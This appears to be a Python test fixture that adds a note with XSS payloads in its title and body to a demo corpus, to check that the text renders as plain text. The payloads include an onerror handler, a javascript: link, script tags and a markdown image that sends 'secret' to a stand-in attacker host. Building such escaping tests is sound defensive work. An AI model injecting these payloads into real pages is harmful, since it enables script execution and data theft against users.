"""A hostile but approved, eligible document: its body must reach the browser as plain text."""

from __future__ import annotations

from typing import Any

DOCUMENT_ID = "NOTE-XSS"
ATTACKER_HOST = "attacker"
# Each payload, if it were rendered as HTML/Markdown, would set window.__xss or call the attacker.
PAYLOADS = (
    '<img src=x onerror="window.__xss=1">',
    "[link](javascript:window.__xss=2)",
    f"![](http://{ATTACKER_HOST}/?q=secret)",
    "$x$",
    "<script>window.__xss=3</script>",
)
BODY = (
    "安全測試 security note：\n" + "\n".join(PAYLOADS) + "\n以上皆為文字。All of the above is text."
)
TITLE = "XSS 測試 <b>bold</b> $y$"


def corpus() -> dict[str, Any]:
    """corpus@1 adding the note to the demo's tenant A (same tenant record as the demo)."""
    return {
        "schema_version": "corpus@1",
        "tenants": [{"tenant_id": "A", "name": "宏準精密工業股份有限公司"}],
        "users": [],
        "documents": [
            {
                "document_id": DOCUMENT_ID,
                "version": 1,
                "tenant_id": "A",
                "doc_type": "note",
                "knowledge_class": "fact",
                "status": "approved",
                "valid_from": "2026-01-01",
                "valid_to": None,
                "acl": ["tenant"],
                "language": "zh-Hant",
                "title": TITLE,
                "body": BODY,
                "customer_id": None,
                "approved_by": "a.owner",
            }
        ],
        "tasks": [],
    }


def citation() -> str:
    """A citation id for the evidence view that highlights the first payload."""
    start = BODY.index(PAYLOADS[0])
    return f"{DOCUMENT_ID}@1:{start}-{start + len(PAYLOADS[0])}"
